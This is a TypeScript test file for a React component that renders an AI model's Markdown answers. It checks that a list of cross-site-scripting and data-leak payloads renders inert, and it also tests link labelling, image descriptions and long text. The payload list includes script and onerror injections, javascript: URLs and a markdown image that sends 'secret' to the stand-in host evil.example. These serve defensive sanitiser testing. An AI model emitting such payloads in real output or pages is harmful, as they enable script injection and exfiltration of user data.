import { createI18n } from '@app/i18n';
import { render, screen } from '@testing-library/react';
import { I18nextProvider } from 'react-i18next';
import { beforeAll, describe, expect, it } from 'vitest';
import Markdown from './Markdown';

let i18n: Awaited<ReturnType<typeof createI18n>>;
beforeAll(async () => {
  i18n = await createI18n({ namespaces: ['common', 'visualization'], language: 'en' });
});
const show = (text: string) =>
  render(
    <I18nextProvider i18n={i18n}>
      <Markdown text={text} />
    </I18nextProvider>,
  ).container;

describe('a model’s Markdown', () => {
  // In the style of the OWASP and DOMPurify corpora: each tries to run something or to call another host.
  it.each([
    '<script>window.__xss = 1</script>',
    '<img src=x onerror="window.__xss=1">',
    '<svg onload=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '![leak](https://evil.example/?q=secret)',
    '![x][1]\n\n[1]: https://evil.example/p.png',
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](data:text/html;base64,PHNjcmlwdD4=)',
    '[click](vbscript:x)',
    '[click](//evil.example)',
    '<javascript:alert(1)>',
    '<a href="https://evil.example" onclick="x()">x</a>',
    '<style>*{background:url(https://evil.example)}</style>',
    '```html\n<img src=x onerror=alert(1)>\n```',
  ])('[R181] %s does nothing', text => {
    const drawn = show(text);
    expect(drawn.querySelector('script, img, svg, iframe, style, object, embed, form')).toBeNull();
    for (const element of drawn.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^src|^style$/);
        if (name === 'href') expect(value).toMatch(/^https?:\/\//);
      }
    }
  });

  it('a link names its target and sends no referrer', () => {
    show('See [the guide](https://example.org/a?b=c).');
    const link = screen.getByRole('link');
    expect(link.textContent).toBe('the guide (example.org)');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it('a picture becomes its description', () => {
    expect(show('![a red lantern](https://example.org/x.png)').textContent).toContain(
      'Picture: a red lantern',
    );
  });

  it('headings are emphasis, not headings of the page', () => {
    expect(show('# Bedroom').querySelector('h1')).toBeNull();
    expect(show('# Bedroom').querySelector('strong')?.textContent).toBe('Bedroom');
  });
});

describe('long answers', () => {
  it('[R181] an endless paragraph is shown unchanged', () => {
    const text = `${'*'.repeat(7999)}${'👍长'.repeat(8000)}`;
    const pieces = [...show(text).querySelectorAll('.chat-plain')].map(
      ({ textContent }) => textContent ?? '',
    );
    expect(pieces.join('')).toBe(text);
    expect(pieces.length).toBeGreaterThan(10);
    for (const piece of pieces) expect(piece).not.toMatch(/\p{Surrogate}/u);
  });
});
